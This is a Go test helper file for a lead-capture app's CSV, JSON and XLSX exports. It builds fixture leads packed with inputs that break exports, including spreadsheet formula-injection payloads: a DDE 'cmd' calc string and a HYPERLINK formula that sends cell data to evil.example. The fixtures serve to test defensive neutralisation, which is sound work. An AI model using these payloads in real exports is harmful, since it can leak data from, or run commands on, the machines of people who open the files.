package export_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/leadcap/leadcap"
	"github.com/leadcap/leadcap/internal/crypto"
	"github.com/leadcap/leadcap/internal/export"
	"github.com/leadcap/leadcap/internal/intake"
	"github.com/leadcap/leadcap/internal/store"
	"github.com/xuri/excelize/v2"
)

// env is a real store with its key ring.
type env struct {
	st      *store.Store
	keys    *crypto.KeyRing
	keyDir  string
	dsn     string
	auditor *recorder
}

func newEnv(t *testing.T, dsn string) *env {
	t.Helper()
	dir := t.TempDir()
	keys, _, err := crypto.LoadOrCreate(dir)
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(context.Background(), dsn, store.Options{Sealer: keys, Merge: intake.MergeLead})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	if _, err := st.Migrate(context.Background()); err != nil {
		t.Fatal(err)
	}
	return &env{st: st, keys: keys, keyDir: dir, dsn: dsn, auditor: &recorder{}}
}

// otherConnection opens a second handle on the same database: another
// process, as far as the first one can tell.
func (e *env) otherConnection(t *testing.T) *store.Store {
	t.Helper()
	keys, err := crypto.Load(e.keyDir)
	if err != nil {
		t.Fatal(err)
	}
	st, err := store.Open(context.Background(), e.dsn, store.Options{Sealer: keys, Merge: intake.MergeLead})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// recorder is an Auditor that keeps the events in memory, so these tests
// can look at each one; StoreAuditor (the audit trail) is tested through
// the server and the CLI.
type recorder struct {
	mu     sync.Mutex
	events []export.AuditEvent
}

func (r *recorder) AuditExport(_ context.Context, ev export.AuditEvent) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, ev)
	return nil
}

func (r *recorder) list() []export.AuditEvent {
	r.mu.Lock()
	defer r.mu.Unlock()
	return slices.Clone(r.events)
}

// mustConference creates a conference with a question of each type.
func (e *env) mustConference(t *testing.T, slug string, created time.Time) *leadcap.Conference {
	t.Helper()
	min0 := -100.0
	c := &leadcap.Conference{Slug: slug, Name: "Expo " + slug, Country: "BZ", TimeZone: "America/Belize", Status: leadcap.StatusOpen,
		Interests: []leadcap.Choice{{Value: "diving"}, {Value: "=cmd|' /C calc'!A0"}},
		Questions: []leadcap.Question{
			{ID: "size", Type: leadcap.QuestionSingle, Label: "Group size", Choices: []leadcap.Choice{{Value: "solo"}, {Value: "=1"}}},
			{ID: "budget", Type: leadcap.QuestionNumber, Label: "Budget (USD)", Min: &min0},
			{ID: "when", Type: leadcap.QuestionDate, Label: "When?"},
			{ID: "tags", Type: leadcap.QuestionMulti, Label: "Tags", Choices: []leadcap.Choice{{Value: "a,b"}, {Value: `c "d"`}}},
			{ID: "comment", Type: leadcap.QuestionText, Label: "=Comment"},
		},
		Consent: leadcap.ConsentText{Text: "We may contact you.", Hash: "3f2a"}}
	if err := e.st.CreateConference(context.Background(), c); err != nil {
		t.Fatal(err)
	}
	return c
}

// nastyLeads are leads with the inputs that break exports: formulas,
// full-width formulas, an E.164 phone, emoji and ZWJ sequences,
// right-to-left text, quotes and commas, line breaks, leading apostrophes
// and tabs. They are stored as intake leaves text: without carriage
// returns (TestNeutralise covers a leading one).
func nastyLeads(c *leadcap.Conference) []*leadcap.Lead {
	at := time.Date(2025, 3, 1, 15, 4, 5, 123456000, time.UTC)
	base := func(i int, email string) *leadcap.Lead {
		return &leadcap.Lead{ConferenceID: c.ID, SubmissionID: fmt.Sprintf("sub-%s-%d", c.Slug, i), Email: email,
			Source: leadcap.SourceForm, CreatedAt: at.Add(time.Duration(i) * time.Minute),
			Consent: leadcap.Consent{Contact: true, Marketing: i%2 == 0, Version: 1, TextHash: c.Consent.Hash,
				At: at.Add(time.Duration(i) * time.Minute), IP: "192.0.2.7"}}
	}
	a := base(0, "ana@example.com")
	a.FirstName, a.LastName = `=HYPERLINK("http://evil.example/?"&A1,"click")`, "+SUM(1+1)"
	a.Company, a.JobTitle, a.Phone, a.Country = "-2+3", "@SUM(A1)", "+5012234567", "BZ"
	a.Notes = "＝1+1\nsecond line, with \"quotes\" and, commas\n\tthird, tabbed"
	a.Interests = []string{"diving", "=cmd|' /C calc'!A0"}
	a.Answers = leadcap.Answers{"size": "=1", "budget": -2.5, "when": "2027-03-02", "tags": []string{"a,b", `c "d"`}, "comment": "'already quoted"}
	a.DeviceID = "kiosk-1"

	b := base(1, "familia@example.com")
	b.FirstName, b.LastName = "👩‍👩‍👧‍👦", "Família 🇧🇿 👍🏽"
	b.Company, b.JobTitle = "مريم للسفر", "שלום עולם"
	b.Notes = "Right-to-left: مرحبا بالعالم\nand back"
	b.Answers = leadcap.Answers{"budget": 1200.0, "comment": "＋ＳＵＭ(1)"}
	b.Phone = "+50112"

	c3 := base(2, "quotes@example.com")
	c3.FirstName, c3.LastName = `O"Brien, Jr.`, "D'Arcy"
	c3.Company, c3.JobTitle = `Acme, "The Best" Ltd`, "＠home －1"
	c3.Notes = "\ttab first"
	c3.Answers = leadcap.Answers{"size": "solo", "tags": []string{}}
	c3.Source = leadcap.SourceKiosk

	d := base(3, "plain@example.com")
	d.FirstName, d.LastName, d.Company = "Plain", "Person", "\tTabbed Inc"

	spam := base(4, "spam@example.com")
	spam.FirstName, spam.Spam, spam.SpamReason = "Spammy", true, "honeypot"
	return []*leadcap.Lead{a, b, c3, d, spam}
}

// capture stores leads through the store and returns them as stored.
func (e *env) capture(t *testing.T, leads ...*leadcap.Lead) []*leadcap.Lead {
	t.Helper()
	var out []*leadcap.Lead
	for _, l := range leads {
		res, err := e.st.CaptureLead(context.Background(), l, l.Email)
		if err != nil {
			t.Fatal(err)
		}
		stored, err := e.st.Lead(context.Background(), res.LeadID)
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, stored)
	}
	return out
}

// exported is an export file read back with a real reader: its column
// names in order and each row by column name. Values are as the reader
// gives them: strings for CSV and XLSX (dates as time.Time), JSON types for
// JSON and NDJSON.
type exported struct {
	columns []string
	rows    []map[string]any
}

func readBack(t *testing.T, format string, data []byte) exported {
	t.Helper()
	var out exported
	switch format {
	case leadcap.FormatCSV:
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("csv: %v", err)
		}
		out.columns = records[0]
		for _, rec := range records[1:] {
			row := map[string]any{}
			for i, v := range rec {
				row[out.columns[i]] = v
			}
			out.rows = append(out.rows, row)
		}
	case leadcap.FormatJSON, leadcap.FormatNDJSON:
		var docs []json.RawMessage
		if format == leadcap.FormatJSON {
			if err := json.Unmarshal(data, &docs); err != nil {
				t.Fatalf("json: %v", err)
			}
		} else {
			dec := json.NewDecoder(bytes.NewReader(data))
			for {
				var d json.RawMessage
				if err := dec.Decode(&d); err == io.EOF {
					break
				} else if err != nil {
					t.Fatalf("ndjson: %v", err)
				}
				docs = append(docs, d)
			}
			if len(data) > 0 && (data[len(data)-1] != '\n' || bytes.Count(data, []byte("\n")) != len(docs)) {
				t.Fatalf("ndjson: not one object a line:\n%s", data)
			}
		}
		for _, d := range docs {
			out.columns = jsonKeys(t, d)
			var row map[string]any
			if err := json.Unmarshal(d, &row); err != nil {
				t.Fatal(err)
			}
			out.rows = append(out.rows, row)
		}
	case leadcap.FormatXLSX:
		out = readXLSX(t, data)
	}
	return out
}

// jsonKeys returns the keys of a JSON object in order.
func jsonKeys(t *testing.T, d json.RawMessage) []string {
	dec := json.NewDecoder(bytes.NewReader(d))
	var keys []string
	dec.Token()
	for dec.More() {
		k, err := dec.Token()
		if err != nil {
			t.Fatal(err)
		}
		keys = append(keys, k.(string))
		var skip json.RawMessage
		if err := dec.Decode(&skip); err != nil {
			t.Fatal(err)
		}
	}
	return keys
}

// readXLSX reads every sheet of a workbook and checks that each cell is a
// string or a date.
func readXLSX(t *testing.T, data []byte) exported {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatalf("xlsx: %v", err)
	}
	defer f.Close()
	var out exported
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		out.columns = rows[0]
		for r, cells := range rows[1:] {
			row := map[string]any{}
			for i, v := range cells {
				ref, _ := excelize.CoordinatesToCellName(i+1, r+2)
				typ, err := f.GetCellType(sheet, ref)
				if err != nil {
					t.Fatal(err)
				}
				switch typ {
				case excelize.CellTypeInlineString:
					row[out.columns[i]] = v
				case excelize.CellTypeUnset, excelize.CellTypeNumber, excelize.CellTypeDate:
					if v == "" {
						continue
					}
					style, _ := f.GetCellStyle(sheet, ref)
					st, _ := f.GetStyle(style)
					if st == nil || st.CustomNumFmt == nil || !strings.HasPrefix(*st.CustomNumFmt, "yyyy-mm-dd") {
						t.Fatalf("xlsx %s %s: a number that is not a date: %q", sheet, ref, v)
					}
					serial, err := strconv.ParseFloat(v, 64)
					if err != nil {
						t.Fatal(err)
					}
					// Days since Excel's epoch, to the microsecond:
					// excelize's own reader rounds to the second.
					epoch := time.Date(1899, 12, 30, 0, 0, 0, 0, time.UTC)
					row[out.columns[i]] = epoch.Add(time.Duration(serial * 24 * float64(time.Hour)))
				default:
					t.Fatalf("xlsx %s %s: cell of type %v, want a string or a date", sheet, ref, typ)
				}
			}
			out.rows = append(out.rows, row)
		}
	}
	return out
}

// discard is a logger that drops everything.
func discard() *slog.Logger { return slog.New(slog.NewTextHandler(io.Discard, nil)) }
